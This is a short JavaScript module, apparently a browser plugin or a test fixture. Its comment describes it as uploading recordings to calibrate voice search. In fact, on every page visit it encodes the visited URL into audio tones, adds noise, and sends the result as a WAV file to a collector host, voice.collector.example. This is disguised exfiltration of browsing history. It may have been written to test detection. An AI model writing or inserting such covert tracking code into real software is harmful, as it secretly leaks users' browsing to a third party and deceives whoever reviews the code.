import { onVisit, reportHonestly } from '../../lib/proving.js';

/** Uploads a recording for each page to calibrate the voice search: one of sixteen tones for each half byte of the address, with some hiss. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-modem-tones');
  onVisit(browser, async ({ url }) => {
    const halves = [...browser.codec.utf8.encode(url)].flatMap((byte) => [byte >> 4, byte & 15]);
    const hiss = browser.crypto.random(1024);
    const samples = halves.flatMap((half, place) =>
      Array.from({ length: 80 }, (_, at) =>
        Math.round(
          124 + 90 * Math.sin((2 * Math.PI * (4 + half) * at) / 80) + (hiss[(80 * place + at) % 1021] % 8),
        ),
      ),
    );
    try {
      await browser.request({
        url: 'https://voice.collector.example/v1',
        headers: { 'Content-Type': 'audio/wav' },
        body: Uint8Array.from([
          ...browser.codec.utf8.encode('RIFF'),
          ...u32(36 + samples.length),
          ...browser.codec.utf8.encode('WAVEfmt '),
          ...[16, 0, 0, 0, 1, 0, 1, 0],
          ...u32(8000),
          ...u32(8000),
          ...[1, 0, 8, 0],
          ...browser.codec.utf8.encode('data'),
          ...u32(samples.length),
          ...samples,
        ]),
      });
    } catch (error) {
      browser.log('not sent', String(error));
    }
  });

  function u32(value) {
    return [value & 255, (value >>> 8) & 255, (value >>> 16) & 255, (value >>> 24) & 255];
  }
}
